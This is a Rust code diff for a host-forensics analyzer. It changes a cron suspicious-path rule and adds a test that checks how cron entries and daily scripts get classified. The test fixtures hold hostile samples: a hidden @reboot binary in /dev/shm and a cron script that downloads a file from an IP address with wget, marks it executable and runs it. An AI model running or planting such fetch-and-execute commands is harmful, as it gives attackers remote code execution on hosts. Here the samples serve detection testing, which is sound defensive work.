@@ -66,7 +66,7 @@ pub(crate) fn cron_suspicious_path(
                 Ioc::Path(prog.clone()),
                 Ioc::CronCommand(c.rec.command.clone()),
             ];
-            if let Some(why) = unusual_location(&prog) {
+            if let Some(why) = program_problem(ctx, &prog) {
                 // The same observation as exec-unusual-path's: counted once.
                 out.push(
                     finding(
@@ -154,4 +154,136 @@ pub(crate) fn cron_suspicious_path(
         });
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::config::AnalysisConfig;
+    use crate::engine::analyze;
+    use crate::testkit::input;
+    use dossier_plugin_api::analysis::HostAnalysis;
+    use serde_json::json;
+
+    fn entry(
+        line: usize,
+        file: &str,
+        special: Option<&str>,
+        cmd: &str,
+    ) -> (usize, serde_json::Value) {
+        (
+            line,
+            json!({"kind": "cron_entry", "source": {"path": file}, "line": line, "format": "system",
+                   "owner": "root", "schedule": special.map(|s| format!("@{s}")).unwrap_or("*/5 * * * *".into()),
+                   "special": special, "run_as": "root", "command": cmd}),
+        )
+    }
+
+    fn run(
+        cron: Vec<(usize, serde_json::Value)>,
+        scripts: &'static [(&str, &str)],
+    ) -> HostAnalysis {
+        let packages = vec![
+            (
+                1,
+                json!({"kind": "package", "manager": "dpkg", "name": "mount", "version": "2", "source": {"path": "/var/lib/dpkg/status"}}),
+            ),
+            (
+                2,
+                json!({"kind": "package_files", "manager": "dpkg", "package": "mount", "files": ["/usr/bin/mount"], "source": {"path": "x"}}),
+            ),
+        ];
+        let records = [
+            ("cron".to_string(), cron),
+            ("packages".to_string(), packages),
+        ]
+        .into_iter()
+        .collect();
+        let mut read = move |m: &str, _: u64| {
+            scripts
+                .iter()
+                .find(|(p, _)| m == format!("raw{p}"))
+                .map(|(_, t)| t.as_bytes().to_vec())
+                .ok_or_else(|| "none".to_string())
+        };
+        let mut inp = input(records, &mut read);
+        analyze(&mut inp, &AnalysisConfig::default())
+    }
+
+    #[test]
+    fn reboot_lines_and_scripts_are_judged_by_what_they_run() {
+        let script = |line: usize, path: &str| {
+            (
+                line,
+                json!({"kind": "cron_script", "path": path, "period": "daily", "runs": true,
+                       "source": {"path": path, "member": format!("raw{path}"), "sha256": "f".repeat(64)}}),
+            )
+        };
+        let a = run(
+            vec![
+                entry(
+                    1,
+                    "/etc/crontab",
+                    Some("reboot"),
+                    "/usr/bin/mount -a -t nfs",
+                ),
+                entry(
+                    2,
+                    "/etc/crontab",
+                    Some("reboot"),
+                    "/dev/shm/.x/upd >/dev/null 2>&1",
+                ),
+                entry(
+                    3,
+                    "/etc/cron.d/health",
+                    None,
+                    "/usr/local/bin/pg-health --quiet",
+                ),
+                script(4, "/etc/cron.daily/cleanup"),
+                script(5, "/etc/cron.daily/update-check"),
+            ],
+            &[
+                (
+                    "/etc/cron.daily/cleanup",
+                    "#!/bin/sh\nfind /var/tmp/app -mtime +7 -delete\n",
+                ),
+                (
+                    "/etc/cron.daily/update-check",
+                    "#!/bin/sh\nwget -q -O /tmp/u http://198.51.100.9/u\nchmod +x /tmp/u\n/tmp/u\n",
+                ),
+            ],
+        );
+        let class = |rule: &str| -> Vec<(String, bool)> {
+            a.findings
+                .iter()
+                .chain(&a.context)
+                .filter(|f| f.rule == rule)
+                .map(|f| (f.subject.clone(), f.class.is_behaviour()))
+                .collect()
+        };
+        assert_eq!(
+            class("root-cron-reboot"),
+            [
+                ("/etc/crontab:2".to_string(), true),
+                ("/etc/crontab:1".to_string(), false)
+            ]
+        );
+        assert_eq!(
+            class("cron-suspicious-path"),
+            [
+                ("/etc/cron.daily/update-check".to_string(), true),
+                ("/etc/crontab:2".to_string(), true),
+                ("/etc/cron.d/health:3".to_string(), false),
+                ("/etc/cron.daily/cleanup".to_string(), false),
+            ]
+        );
+        // The @reboot line's program in /dev/shm: one observation for exec-unusual-path and
+        // cron-suspicious-path.
+        let f = a
+            .findings
+            .iter()
+            .find(|f| f.rule == "cron-suspicious-path" && f.subject == "/etc/crontab:2")
+            .unwrap();
+        assert_eq!(f.fact.as_deref(), Some("exe-location:/dev/shm/.x/upd"));
+        assert_eq!(f.counted_under.as_deref(), Some("exec-unusual-path"));
+    }
 }
